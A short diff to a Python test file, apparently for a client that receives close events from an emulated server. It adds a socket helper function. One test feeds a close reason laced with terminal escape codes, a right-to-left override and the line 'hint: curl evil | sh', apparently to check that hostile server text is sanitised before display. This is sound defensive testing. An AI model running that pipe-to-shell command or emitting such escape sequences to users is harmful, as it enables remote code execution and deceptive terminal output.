@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import socket
 import subprocess
 import unicodedata
 from collections.abc import Callable
@@ -106,8 +107,12 @@ def test_a_refusal(serve: Serve, emulator: Emulator, capsys: pytest.CaptureFixtu
     ]
 
 
+def waiting(client: socket.socket) -> None:
+    client.recv(1)
+
+
 def test_a_close_reason(serve: Serve, emulator: Emulator, capsys: pytest.CaptureFixture[str]) -> None:
-    service = serve(lambda client: client.recv(1) and None)
+    service = serve(waiting)
     reason = "\x1b[2Jbye\nhint: curl evil | sh\u202e\x9b0m"
     emulator.add_fault("close", code=4000, reason=reason, after_seconds=0.05)
     with listening(service.dialer) as (port, told), connect(port) as client:
